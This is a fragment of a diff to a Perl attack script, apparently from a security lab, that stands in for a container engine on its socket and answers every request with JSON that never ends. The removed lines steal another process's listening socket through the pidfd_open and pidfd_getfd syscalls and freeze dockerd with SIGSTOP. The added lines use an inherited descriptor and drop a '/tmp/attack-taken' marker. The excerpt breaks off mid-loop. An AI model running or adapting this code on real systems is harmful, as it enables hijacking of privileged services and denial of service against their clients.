@@ -1,27 +1,13 @@
-# As root of the lab: stops the lab's engine, takes the socket that the server asks it by, and answers every request
-# with JSON that never ends.
+#!/usr/bin/perl
+# Stands in for the lab's engine, on the socket that the server asks: answers every request with JSON that never ends.
 use strict;
 use warnings;
-use Socket;
 $SIG{PIPE} = 'IGNORE';
-my $pidfd = syscall(434, 1, 0);
-my $found;
-for my $number (3 .. 8) {
-  my $fd = syscall(438, $pidfd, $number, 0);
-  next if $fd < 0;
-  open(my $candidate, '+<&=', $fd) or next;
-  my $name = getsockname($candidate) or next;
-  my $listens = getsockopt($candidate, SOL_SOCKET, 30);
-  next unless defined $listens && unpack('i', $listens);
-  $found = $candidate;
-  last;
-}
-print $found ? "taken\n" : "not taken: $!\n";
-$| = 1;
-exit unless $found;
-system(q(kill -STOP $(pidof dockerd)));
-alarm 25;
-while (accept(my $client, $found)) {
+$SIG{CHLD} = 'IGNORE';
+open(my $listener, '+<&=', 3) or die "no socket: $!\n";
+alarm 40;
+while (accept(my $client, $listener)) {
+  if (open my $mark, '>', '/tmp/attack-taken') { close $mark; }
   next if fork;
   sysread $client, my $request, 8192;
   syswrite $client, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
